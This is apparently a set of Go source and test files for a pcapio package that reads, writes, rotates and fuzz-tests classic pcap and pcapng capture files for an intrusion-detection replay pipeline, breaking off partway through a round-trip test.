	var cb bytes.Buffer
	w, err := NewWriter(&cb, LinkTypeEthernet, WithNanoPrecision(), WithSnaplen(4096))
	if err != nil {
		f.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		data := bytes.Repeat([]byte{byte('a' + i)}, 40+i*13)
		if err := w.WritePacket(base.Add(time.Duration(i)*time.Millisecond), data); err != nil {
			f.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		f.Fatal(err)
	}

	var nb bytes.Buffer
	nw, err := NewNgWriter(&nb, LinkTypeEthernet)
	if err != nil {
		f.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		data := bytes.Repeat([]byte{byte('p' + i)}, 60+i*7)
		if err := nw.WritePacket(base.Add(time.Duration(i)*time.Millisecond), data); err != nil {
			f.Fatal(err)
		}
	}
	if err := nw.Flush(); err != nil {
		f.Fatal(err)
	}
	return cb.Bytes(), nb.Bytes()
}

// FuzzOpenCapture throws arbitrary bytes at the format-sniffing entry point
// the replayer uses on every capture file. Whatever the input — truncated
// headers, lying length fields, corrupt blocks — the reader must either
// return an error or deliver records whose sizes respect the allocation
// bound; it must never panic and never allocate past maxRecordBytes.
func fuzzOpenCaptureSeeds(tb testing.TB) [][]byte {
	pcap, pcapng := fuzzCaptures(tb)
	// Bit-flip seeds: corrupt a length field in each format.
	flipped := append([]byte(nil), pcap...)
	flipped[fileHeaderLen+8] ^= 0xff // pcap caplen
	nflipped := append([]byte(nil), pcapng...)
	nflipped[4] ^= 0xff // SHB total length
	return [][]byte{
		pcap,
		pcapng,
		pcap[:fileHeaderLen],           // header only
		pcap[:fileHeaderLen+7],         // mid-record-header truncation
		pcap[:len(pcap)-11],            // mid-record truncation
		pcapng[:len(pcapng)-5],         // mid-block truncation
		pcapng[:28],                    // SHB only
		{},                             // empty
		[]byte("not a capture at all"), // wrong magic
		flipped,
		nflipped,
	}
}

func FuzzOpenCapture(f *testing.F) {
	for _, seed := range fuzzOpenCaptureSeeds(f) {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		src, err := OpenCapture(bytes.NewReader(data))
		if err != nil {
			return
		}
		// A capture no larger than the input cannot legitimately hold more
		// records than bytes; anything past that means the reader is looping
		// without consuming input.
		for i := 0; i <= len(data); i++ {
			p, err := src.Next()
			if err == io.EOF {
				return
			}
			if err != nil {
				return
			}
			if len(p.Data) > maxRecordBytes {
				t.Fatalf("record %d: %d bytes exceeds the allocation bound %d", i, len(p.Data), maxRecordBytes)
			}
		}
		t.Fatalf("reader produced more records than input bytes (%d) without erroring", len(data))
	})
}

// TestRegenFuzzCorpus rewrites this package's committed seed corpus from
// the same seed list FuzzOpenCapture f.Adds. Run with REGEN_FUZZ_CORPUS=1
// after changing the seeds.
func TestRegenFuzzCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to rewrite testdata/fuzz")
	}
	fuzzcorpus.Write(t, "FuzzOpenCapture", fuzzOpenCaptureSeeds(t))
}
