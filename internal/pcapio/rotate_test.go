package pcapio

import (
	"bytes"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestRotatingWriterSegments(t *testing.T) {
	dir := t.TempDir()
	// Each record: 16-byte header + 100 bytes; cap segments near 3 records.
	rw, err := NewRotatingWriter(dir, "capture", LinkTypeEthernet, fileHeaderLen+3*(recordHeaderLen+100)+1)
	if err != nil {
		t.Fatal(err)
	}
	data := bytes.Repeat([]byte{0x42}, 100)
	const n = 10
	for i := 0; i < n; i++ {
		if err := rw.WritePacket(time.Unix(int64(i), 0), data); err != nil {
			t.Fatal(err)
		}
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	files := rw.Files()
	if len(files) < 3 {
		t.Fatalf("segments = %d, want rotation", len(files))
	}
	// Replay everything in order through the multi-file source.
	src, err := OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	count := 0
	var last time.Time
	for {
		p, err := src.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if count > 0 && p.Timestamp.Before(last) {
			t.Fatal("multi-file replay out of order")
		}
		last = p.Timestamp
		if !bytes.Equal(p.Data, data) {
			t.Fatal("data corrupted across rotation")
		}
		count++
	}
	if count != n {
		t.Fatalf("replayed %d packets, wrote %d", count, n)
	}
}

func TestRotatingWriterOversizedRecord(t *testing.T) {
	dir := t.TempDir()
	rw, err := NewRotatingWriter(dir, "c", LinkTypeEthernet, 64)
	if err != nil {
		t.Fatal(err)
	}
	// A record larger than maxBytes still gets written (one per segment).
	big := make([]byte, 500)
	if err := rw.WritePacket(time.Unix(0, 0), big); err != nil {
		t.Fatal(err)
	}
	if err := rw.WritePacket(time.Unix(1, 0), big); err != nil {
		t.Fatal(err)
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	if got := len(rw.Files()); got != 2 {
		t.Errorf("segments = %d, want 2 (one oversized record each)", got)
	}
}

func TestNewRotatingWriterValidation(t *testing.T) {
	if _, err := NewRotatingWriter(t.TempDir(), "c", LinkTypeEthernet, 0); err == nil {
		t.Error("zero maxBytes accepted")
	}
}

func TestOpenFilesErrors(t *testing.T) {
	if _, err := OpenFiles(); err == nil {
		t.Error("no files accepted")
	}
	src, err := OpenFiles(filepath.Join(t.TempDir(), "missing.pcap"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := src.Next(); err == nil {
		t.Error("missing file read succeeded")
	}
}

func TestOpenFilesMixedFormats(t *testing.T) {
	dir := t.TempDir()
	classic := filepath.Join(dir, "a-classic.pcap")
	ng := filepath.Join(dir, "b-next.pcapng")

	writeOne := func(path string, mk func(w io.Writer) (interface {
		WritePacket(time.Time, []byte) error
		Flush() error
	}, error), payload string) {
		t.Helper()
		f, err := os.Create(path)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		w, err := mk(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.WritePacket(time.Unix(9, 0), []byte(payload)); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
	}
	writeOne(classic, func(w io.Writer) (interface {
		WritePacket(time.Time, []byte) error
		Flush() error
	}, error) {
		return NewWriter(w, LinkTypeEthernet)
	}, "one")
	writeOne(ng, func(w io.Writer) (interface {
		WritePacket(time.Time, []byte) error
		Flush() error
	}, error) {
		return NewNgWriter(w, LinkTypeEthernet)
	}, "two")

	src, err := OpenFiles(classic, ng)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	var got []string
	for {
		p, err := src.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, string(p.Data))
	}
	if len(got) != 2 || got[0] != "one" || got[1] != "two" {
		t.Errorf("mixed replay = %v", got)
	}
}
