package pcapio

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestRotatingWriterSegments(t *testing.T) {
	dir := t.TempDir()
	// Each record: 16-byte header + 100 bytes; cap segments near 3 records.
	rw, err := NewRotatingWriter(dir, "capture", LinkTypeEthernet, fileHeaderLen+3*(recordHeaderLen+100)+1)
	if err != nil {
		t.Fatal(err)
	}
	data := bytes.Repeat([]byte{0x42}, 100)
	const n = 10
	for i := 0; i < n; i++ {
		if err := rw.WritePacket(time.Unix(int64(i), 0), data); err != nil {
			t.Fatal(err)
		}
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	files := rw.Files()
	if len(files) < 3 {
		t.Fatalf("segments = %d, want rotation", len(files))
	}
	// Replay everything in order through the multi-file source.
	src, err := OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	count := 0
	var last time.Time
	for {
		p, err := src.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if count > 0 && p.Timestamp.Before(last) {
			t.Fatal("multi-file replay out of order")
		}
		last = p.Timestamp
		if !bytes.Equal(p.Data, data) {
			t.Fatal("data corrupted across rotation")
		}
		count++
	}
	if count != n {
		t.Fatalf("replayed %d packets, wrote %d", count, n)
	}
}

// TestRotatingWriterTwelveSegmentsReplayOrder is the >9-segment regression:
// sequence numbers are zero-padded in filenames, so the sort.Strings inside
// OpenFiles must replay 12 segments in write order (an unpadded "-10" would
// sort before "-2" and scramble the capture timeline).
func TestRotatingWriterTwelveSegmentsReplayOrder(t *testing.T) {
	dir := t.TempDir()
	// One record per segment: each record alone exceeds maxBytes.
	rw, err := NewRotatingWriter(dir, "capture", LinkTypeEthernet, 64)
	if err != nil {
		t.Fatal(err)
	}
	const n = 12
	for i := 0; i < n; i++ {
		payload := bytes.Repeat([]byte{byte(i)}, 100)
		if err := rw.WritePacket(time.Unix(int64(i), 0), payload); err != nil {
			t.Fatal(err)
		}
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	files := rw.Files()
	if len(files) != n {
		t.Fatalf("segments = %d, want %d", len(files), n)
	}
	// Deliberately shuffle the argument order: OpenFiles must restore write
	// order by name alone.
	shuffled := append([]string(nil), files...)
	for i := range shuffled {
		j := (i * 7) % len(shuffled)
		shuffled[i], shuffled[j] = shuffled[j], shuffled[i]
	}
	src, err := OpenFiles(shuffled...)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	for i := 0; i < n; i++ {
		p, err := src.Next()
		if err != nil {
			t.Fatalf("record %d: %v", i, err)
		}
		if p.Timestamp.Unix() != int64(i) {
			t.Fatalf("record %d replayed at ts %d: segments out of write order", i, p.Timestamp.Unix())
		}
		if p.Data[0] != byte(i) {
			t.Fatalf("record %d carries payload byte %#x", i, p.Data[0])
		}
	}
	if _, err := src.Next(); err != io.EOF {
		t.Fatalf("after %d records err = %v, want io.EOF", n, err)
	}
}

// TestMultiSourceTruncatedFinalSegment: a capture directory whose last
// segment was torn mid-record (writer crash) must surface a clear error
// from the multi-file replay, not silently end the capture early.
func TestMultiSourceTruncatedFinalSegment(t *testing.T) {
	dir := t.TempDir()
	rw, err := NewRotatingWriter(dir, "c", LinkTypeEthernet, 64)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if err := rw.WritePacket(time.Unix(int64(i), 0), make([]byte, 120)); err != nil {
			t.Fatal(err)
		}
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	files := rw.Files()
	// Tear the final segment inside its record payload.
	last := files[len(files)-1]
	info, err := os.Stat(last)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(last, info.Size()-40); err != nil {
		t.Fatal(err)
	}
	src, err := OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	var n int
	var readErr error
	for {
		_, err := src.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			readErr = err
			break
		}
		n++
	}
	if readErr == nil {
		t.Fatalf("replayed %d records with no error from the torn segment", n)
	}
	if !errors.Is(readErr, ErrShortRecord) {
		t.Fatalf("err = %v, want ErrShortRecord", readErr)
	}
	if n != 2 {
		t.Fatalf("replayed %d complete records before the tear, want 2", n)
	}
}

// TestMultiSourceTruncatedMixedFormats mirrors the crash-recovery story for
// a pcapng final segment: the error must name the problem, not EOF.
func TestMultiSourceTruncatedMixedFormats(t *testing.T) {
	dir := t.TempDir()
	classic := filepath.Join(dir, "a.pcap")
	ng := filepath.Join(dir, "b.pcapng")
	cf, err := os.Create(classic)
	if err != nil {
		t.Fatal(err)
	}
	cw, err := NewWriter(cf, LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	if err := cw.WritePacket(time.Unix(0, 0), []byte("ok")); err != nil {
		t.Fatal(err)
	}
	if err := cw.Flush(); err != nil {
		t.Fatal(err)
	}
	cf.Close()
	nf, err := os.Create(ng)
	if err != nil {
		t.Fatal(err)
	}
	nw, err := NewNgWriter(nf, LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	if err := nw.WritePacket(time.Unix(1, 0), bytes.Repeat([]byte{0xcc}, 200)); err != nil {
		t.Fatal(err)
	}
	if err := nw.Flush(); err != nil {
		t.Fatal(err)
	}
	nf.Close()
	info, err := os.Stat(ng)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(ng, info.Size()-30); err != nil {
		t.Fatal(err)
	}
	src, err := OpenFiles(classic, ng)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	if _, err := src.Next(); err != nil {
		t.Fatal(err)
	}
	_, err = src.Next()
	if err == nil || err == io.EOF {
		t.Fatalf("truncated pcapng segment read returned %v, want a loud error", err)
	}
}

func TestRotatingWriterOversizedRecord(t *testing.T) {
	dir := t.TempDir()
	rw, err := NewRotatingWriter(dir, "c", LinkTypeEthernet, 64)
	if err != nil {
		t.Fatal(err)
	}
	// A record larger than maxBytes still gets written (one per segment).
	big := make([]byte, 500)
	if err := rw.WritePacket(time.Unix(0, 0), big); err != nil {
		t.Fatal(err)
	}
	if err := rw.WritePacket(time.Unix(1, 0), big); err != nil {
		t.Fatal(err)
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	if got := len(rw.Files()); got != 2 {
		t.Errorf("segments = %d, want 2 (one oversized record each)", got)
	}
}

func TestNewRotatingWriterValidation(t *testing.T) {
	if _, err := NewRotatingWriter(t.TempDir(), "c", LinkTypeEthernet, 0); err == nil {
		t.Error("zero maxBytes accepted")
	}
}

func TestOpenFilesErrors(t *testing.T) {
	if _, err := OpenFiles(); err == nil {
		t.Error("no files accepted")
	}
	src, err := OpenFiles(filepath.Join(t.TempDir(), "missing.pcap"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := src.Next(); err == nil {
		t.Error("missing file read succeeded")
	}
}

func TestOpenFilesMixedFormats(t *testing.T) {
	dir := t.TempDir()
	classic := filepath.Join(dir, "a-classic.pcap")
	ng := filepath.Join(dir, "b-next.pcapng")

	writeOne := func(path string, mk func(w io.Writer) (interface {
		WritePacket(time.Time, []byte) error
		Flush() error
	}, error), payload string) {
		t.Helper()
		f, err := os.Create(path)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		w, err := mk(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.WritePacket(time.Unix(9, 0), []byte(payload)); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
	}
	writeOne(classic, func(w io.Writer) (interface {
		WritePacket(time.Time, []byte) error
		Flush() error
	}, error) {
		return NewWriter(w, LinkTypeEthernet)
	}, "one")
	writeOne(ng, func(w io.Writer) (interface {
		WritePacket(time.Time, []byte) error
		Flush() error
	}, error) {
		return NewNgWriter(w, LinkTypeEthernet)
	}, "two")

	src, err := OpenFiles(classic, ng)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	var got []string
	for {
		p, err := src.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, string(p.Data))
	}
	if len(got) != 2 || got[0] != "one" || got[1] != "two" {
		t.Errorf("mixed replay = %v", got)
	}
}
