package pcapio

import (
	"bytes"
	"encoding/binary"
	"io"
	"testing"
	"time"
)

func TestNgRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewNgWriter(&buf, LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	ts := time.Date(2022, 6, 3, 10, 20, 30, 123456789, time.UTC)
	payloads := [][]byte{
		[]byte("alpha"),
		{},
		bytes.Repeat([]byte{0xcd}, 999), // forces padding
	}
	for i, p := range payloads {
		if err := w.WritePacket(ts.Add(time.Duration(i)*time.Minute), p); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}

	r, err := NewNgReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range payloads {
		p, err := r.Next()
		if err != nil {
			t.Fatalf("packet %d: %v", i, err)
		}
		if !bytes.Equal(p.Data, want) {
			t.Errorf("packet %d data mismatch (%d vs %d bytes)", i, len(p.Data), len(want))
		}
		wantTs := ts.Add(time.Duration(i) * time.Minute)
		if !p.Timestamp.Equal(wantTs) {
			t.Errorf("packet %d timestamp %v, want %v", i, p.Timestamp, wantTs)
		}
		if p.OrigLen != len(want) {
			t.Errorf("packet %d OrigLen = %d", i, p.OrigLen)
		}
	}
	if _, err := r.Next(); err != io.EOF {
		t.Errorf("want EOF, got %v", err)
	}
	if r.LinkType() != LinkTypeEthernet {
		t.Errorf("LinkType = %d", r.LinkType())
	}
}

func TestNgRejectsClassicPcap(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, LinkTypeEthernet)
	_ = w.Flush()
	if _, err := NewNgReader(bytes.NewReader(buf.Bytes())); err == nil {
		t.Error("NgReader accepted classic pcap")
	}
}

func TestNgSkipsUnknownBlocks(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewNgWriter(&buf, LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	_ = w.Flush()
	// Append a custom block (type 0x0BAD) then a valid EPB via writer.
	custom := make([]byte, 16)
	binary.LittleEndian.PutUint32(custom[0:4], 0x0BAD)
	binary.LittleEndian.PutUint32(custom[4:8], 16)
	binary.LittleEndian.PutUint32(custom[12:16], 16)
	buf.Write(custom)
	w2 := &NgWriter{w: newBufioWriter(&buf), snaplen: 262144}
	if err := w2.WritePacket(time.Unix(5, 0), []byte("after")); err != nil {
		t.Fatal(err)
	}
	_ = w2.Flush()

	r, err := NewNgReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.Next()
	if err != nil {
		t.Fatal(err)
	}
	if string(p.Data) != "after" {
		t.Errorf("Data = %q", p.Data)
	}
}

func TestNgTruncatedBlock(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewNgWriter(&buf, LinkTypeEthernet)
	_ = w.WritePacket(time.Unix(1, 0), []byte("payload"))
	_ = w.Flush()
	trunc := buf.Bytes()[:buf.Len()-6]
	r, err := NewNgReader(bytes.NewReader(trunc))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); err == nil || err == io.EOF {
		t.Errorf("truncated block read = %v, want error", err)
	}
}

func TestOpenCaptureSniffsBothFormats(t *testing.T) {
	// Classic.
	var classic bytes.Buffer
	cw, _ := NewWriter(&classic, LinkTypeEthernet)
	_ = cw.WritePacket(time.Unix(9, 0), []byte("classic"))
	_ = cw.Flush()
	src, err := OpenCapture(bytes.NewReader(classic.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	p, err := src.Next()
	if err != nil || string(p.Data) != "classic" {
		t.Fatalf("classic read = %q/%v", p.Data, err)
	}

	// pcapng.
	var ng bytes.Buffer
	nw, _ := NewNgWriter(&ng, LinkTypeEthernet)
	_ = nw.WritePacket(time.Unix(9, 0), []byte("nextgen"))
	_ = nw.Flush()
	src, err = OpenCapture(bytes.NewReader(ng.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	p, err = src.Next()
	if err != nil || string(p.Data) != "nextgen" {
		t.Fatalf("pcapng read = %q/%v", p.Data, err)
	}

	// Garbage.
	if _, err := OpenCapture(bytes.NewReader([]byte{1, 2, 3, 4, 5, 6})); err == nil {
		t.Error("OpenCapture accepted garbage")
	}
}

func TestNgBigEndianRead(t *testing.T) {
	// Hand-build a big-endian section with one EPB.
	var buf bytes.Buffer
	shb := make([]byte, 28)
	binary.BigEndian.PutUint32(shb[0:4], blockSHB)
	binary.BigEndian.PutUint32(shb[4:8], 28)
	binary.BigEndian.PutUint32(shb[8:12], byteOrderMagic)
	binary.BigEndian.PutUint16(shb[12:14], 1)
	binary.BigEndian.PutUint64(shb[16:24], 0xFFFFFFFFFFFFFFFF)
	binary.BigEndian.PutUint32(shb[24:28], 28)
	buf.Write(shb)
	idb := make([]byte, 20)
	binary.BigEndian.PutUint32(idb[0:4], blockIDB)
	binary.BigEndian.PutUint32(idb[4:8], 20)
	binary.BigEndian.PutUint16(idb[8:10], 1)
	binary.BigEndian.PutUint32(idb[12:16], 65535)
	binary.BigEndian.PutUint32(idb[16:20], 20)
	buf.Write(idb)
	data := []byte("beef")
	epb := make([]byte, 32+len(data))
	binary.BigEndian.PutUint32(epb[0:4], blockEPB)
	binary.BigEndian.PutUint32(epb[4:8], uint32(len(epb)))
	// timestamp in default µs resolution: 1000000 µs = 1 s (low word)
	binary.BigEndian.PutUint32(epb[16:20], 1000000)
	binary.BigEndian.PutUint32(epb[20:24], uint32(len(data)))
	binary.BigEndian.PutUint32(epb[24:28], uint32(len(data)))
	copy(epb[28:], data)
	binary.BigEndian.PutUint32(epb[len(epb)-4:], uint32(len(epb)))
	buf.Write(epb)

	r, err := NewNgReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.Next()
	if err != nil {
		t.Fatal(err)
	}
	if string(p.Data) != "beef" {
		t.Errorf("Data = %q", p.Data)
	}
	if !p.Timestamp.Equal(time.Unix(1, 0).UTC()) {
		t.Errorf("Timestamp = %v, want 1s (µs default resolution)", p.Timestamp)
	}
}
