// Package pcapio reads and writes libpcap capture files (the classic
// tcpdump format, magic 0xa1b2c3d4 / 0xa1b23c4d). The telescope persists its
// captures in this format so they can be inspected with standard tooling,
// and the IDS replays them post facto — exactly the paper's workflow, where
// two years of pcap are re-evaluated against every signature after the fact.
//
// Both microsecond and nanosecond timestamp precisions are supported, as are
// both byte orders on read (files are written in little-endian, the common
// convention).
package pcapio

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"time"
)

// Magic numbers for the classic pcap format.
const (
	magicMicro = 0xa1b2c3d4
	magicNano  = 0xa1b23c4d
)

// LinkType values (a tiny subset; the telescope writes Ethernet).
const (
	LinkTypeEthernet uint32 = 1
	LinkTypeRaw      uint32 = 101
)

const (
	fileHeaderLen   = 24
	recordHeaderLen = 16
	versionMajor    = 2
	versionMinor    = 4
	// maxRecordBytes bounds one record's (pcap) or block's (pcapng)
	// allocation regardless of what its length field claims — far above any
	// real snaplen, and small enough that corrupt input fails as an error
	// instead of a multi-gigabyte allocation.
	maxRecordBytes = 16 << 20
)

// Errors returned by the reader.
var (
	ErrBadMagic     = errors.New("pcapio: not a pcap file")
	ErrShortRecord  = errors.New("pcapio: truncated record")
	ErrSnaplenAbuse = errors.New("pcapio: record length exceeds snaplen")
)

// Packet is one captured record.
type Packet struct {
	// Timestamp of capture.
	Timestamp time.Time
	// OrigLen is the original length of the packet on the wire, which may
	// exceed len(Data) if the capture was truncated at snaplen.
	OrigLen int
	// Data is the captured bytes.
	Data []byte
}

// Writer writes a pcap file. It buffers internally; call Flush before the
// underlying writer is closed.
type Writer struct {
	w       *bufio.Writer
	nano    bool
	snaplen uint32
	hdr     [recordHeaderLen]byte
}

// WriterOption configures a Writer.
type WriterOption func(*Writer)

// WithNanoPrecision makes the writer emit nanosecond-precision timestamps
// (magic 0xa1b23c4d).
func WithNanoPrecision() WriterOption { return func(w *Writer) { w.nano = true } }

// WithSnaplen sets the advertised snap length. Records longer than the
// snaplen are truncated on write with OrigLen preserved.
func WithSnaplen(n uint32) WriterOption { return func(w *Writer) { w.snaplen = n } }

// NewWriter creates a Writer and emits the file header immediately.
func NewWriter(w io.Writer, linkType uint32, opts ...WriterOption) (*Writer, error) {
	pw := &Writer{w: bufio.NewWriter(w), snaplen: 262144}
	for _, o := range opts {
		o(pw)
	}
	var hdr [fileHeaderLen]byte
	magic := uint32(magicMicro)
	if pw.nano {
		magic = magicNano
	}
	binary.LittleEndian.PutUint32(hdr[0:4], magic)
	binary.LittleEndian.PutUint16(hdr[4:6], versionMajor)
	binary.LittleEndian.PutUint16(hdr[6:8], versionMinor)
	// thiszone and sigfigs are zero by convention.
	binary.LittleEndian.PutUint32(hdr[16:20], pw.snaplen)
	binary.LittleEndian.PutUint32(hdr[20:24], linkType)
	if _, err := pw.w.Write(hdr[:]); err != nil {
		return nil, fmt.Errorf("pcapio: writing file header: %w", err)
	}
	return pw, nil
}

// WritePacket appends one record.
func (w *Writer) WritePacket(ts time.Time, data []byte) error {
	origLen := len(data)
	if uint32(len(data)) > w.snaplen {
		data = data[:w.snaplen]
	}
	sec := ts.Unix()
	var frac int64
	if w.nano {
		frac = int64(ts.Nanosecond())
	} else {
		frac = int64(ts.Nanosecond()) / 1000
	}
	binary.LittleEndian.PutUint32(w.hdr[0:4], uint32(sec))
	binary.LittleEndian.PutUint32(w.hdr[4:8], uint32(frac))
	binary.LittleEndian.PutUint32(w.hdr[8:12], uint32(len(data)))
	binary.LittleEndian.PutUint32(w.hdr[12:16], uint32(origLen))
	if _, err := w.w.Write(w.hdr[:]); err != nil {
		return fmt.Errorf("pcapio: writing record header: %w", err)
	}
	if _, err := w.w.Write(data); err != nil {
		return fmt.Errorf("pcapio: writing record data: %w", err)
	}
	return nil
}

// Flush flushes buffered records to the underlying writer.
func (w *Writer) Flush() error { return w.w.Flush() }

// Reader reads a pcap file.
type Reader struct {
	r        *bufio.Reader
	order    binary.ByteOrder
	nano     bool
	snaplen  uint32
	linkType uint32
}

// fileHeader is a parsed classic-pcap file header, shared between the
// buffered Reader and the incremental TailReader.
type fileHeader struct {
	order    binary.ByteOrder
	nano     bool
	snaplen  uint32
	linkType uint32
}

// parseFileHeader decodes the 24-byte classic pcap file header.
func parseFileHeader(hdr []byte) (fileHeader, error) {
	var fh fileHeader
	magicLE := binary.LittleEndian.Uint32(hdr[0:4])
	magicBE := binary.BigEndian.Uint32(hdr[0:4])
	switch {
	case magicLE == magicMicro:
		fh.order = binary.LittleEndian
	case magicLE == magicNano:
		fh.order, fh.nano = binary.LittleEndian, true
	case magicBE == magicMicro:
		fh.order = binary.BigEndian
	case magicBE == magicNano:
		fh.order, fh.nano = binary.BigEndian, true
	default:
		return fh, fmt.Errorf("%w: magic 0x%08x", ErrBadMagic, magicLE)
	}
	if major := fh.order.Uint16(hdr[4:6]); major != versionMajor {
		return fh, fmt.Errorf("pcapio: unsupported version %d.%d", major, fh.order.Uint16(hdr[6:8]))
	}
	fh.snaplen = fh.order.Uint32(hdr[16:20])
	fh.linkType = fh.order.Uint32(hdr[20:24])
	return fh, nil
}

// NewReader parses the file header and prepares to iterate records.
func NewReader(r io.Reader) (*Reader, error) {
	pr := &Reader{r: bufio.NewReader(r)}
	var hdr [fileHeaderLen]byte
	if _, err := io.ReadFull(pr.r, hdr[:]); err != nil {
		return nil, fmt.Errorf("pcapio: reading file header: %w", err)
	}
	fh, err := parseFileHeader(hdr[:])
	if err != nil {
		return nil, err
	}
	pr.order, pr.nano = fh.order, fh.nano
	pr.snaplen, pr.linkType = fh.snaplen, fh.linkType
	return pr, nil
}

// LinkType returns the file's link type.
func (r *Reader) LinkType() uint32 { return r.linkType }

// Snaplen returns the file's snap length.
func (r *Reader) Snaplen() uint32 { return r.snaplen }

// NanoPrecision reports whether timestamps carry nanosecond precision.
func (r *Reader) NanoPrecision() bool { return r.nano }

// Next returns the next record, or io.EOF after the last one. The returned
// Data is freshly allocated and owned by the caller.
func (r *Reader) Next() (Packet, error) {
	var p Packet
	if err := r.NextInto(&p); err != nil {
		return Packet{}, err
	}
	return p, nil
}

// NextInto reads the next record into p, reusing p.Data's backing array when
// its capacity suffices — the allocation-free read path for the streaming
// front-end. On a non-nil error (including io.EOF after the last record) the
// contents of p are unspecified.
func (r *Reader) NextInto(p *Packet) error {
	var hdr [recordHeaderLen]byte
	if _, err := io.ReadFull(r.r, hdr[:]); err != nil {
		if err == io.EOF {
			return io.EOF
		}
		return fmt.Errorf("pcapio: %w: %v", ErrShortRecord, err)
	}
	sec := r.order.Uint32(hdr[0:4])
	frac := r.order.Uint32(hdr[4:8])
	capLen := r.order.Uint32(hdr[8:12])
	origLen := r.order.Uint32(hdr[12:16])
	if r.snaplen > 0 && capLen > r.snaplen {
		return fmt.Errorf("%w: caplen %d > snaplen %d", ErrSnaplenAbuse, capLen, r.snaplen)
	}
	// A header with snaplen 0 leaves capLen otherwise unbounded; a corrupt or
	// hostile length must fail here, not in a multi-gigabyte allocation.
	if capLen > maxRecordBytes {
		return fmt.Errorf("%w: caplen %d exceeds limit %d", ErrSnaplenAbuse, capLen, maxRecordBytes)
	}
	growData(p, int(capLen))
	if _, err := io.ReadFull(r.r, p.Data); err != nil {
		return fmt.Errorf("pcapio: %w: %v", ErrShortRecord, err)
	}
	nanos := int64(frac)
	if !r.nano {
		nanos *= 1000
	}
	p.Timestamp = time.Unix(int64(sec), nanos).UTC()
	p.OrigLen = int(origLen)
	return nil
}

// growData resizes p.Data to n bytes, reusing the backing array when its
// capacity allows and allocating only to grow.
func growData(p *Packet, n int) {
	if cap(p.Data) >= n {
		p.Data = p.Data[:n]
	} else {
		p.Data = make([]byte, n)
	}
}

// ReadAll drains the reader, returning every record. It is a convenience for
// tests and small captures; the IDS streams with Next.
func (r *Reader) ReadAll() ([]Packet, error) {
	var pkts []Packet
	for {
		p, err := r.Next()
		if err == io.EOF {
			return pkts, nil
		}
		if err != nil {
			return pkts, err
		}
		pkts = append(pkts, p)
	}
}

// newBufioWriter exposes bufio construction for internal test fixtures that
// append blocks to an existing stream.
func newBufioWriter(w io.Writer) *bufio.Writer { return bufio.NewWriter(w) }
