package pcapio

import (
	"bytes"
	"encoding/binary"
	"io"
	"testing"
	"testing/quick"
	"time"
)

func TestRoundTripMicro(t *testing.T) {
	testRoundTrip(t, false)
}

func TestRoundTripNano(t *testing.T) {
	testRoundTrip(t, true)
}

func testRoundTrip(t *testing.T, nano bool) {
	t.Helper()
	var buf bytes.Buffer
	var opts []WriterOption
	if nano {
		opts = append(opts, WithNanoPrecision())
	}
	w, err := NewWriter(&buf, LinkTypeEthernet, opts...)
	if err != nil {
		t.Fatal(err)
	}
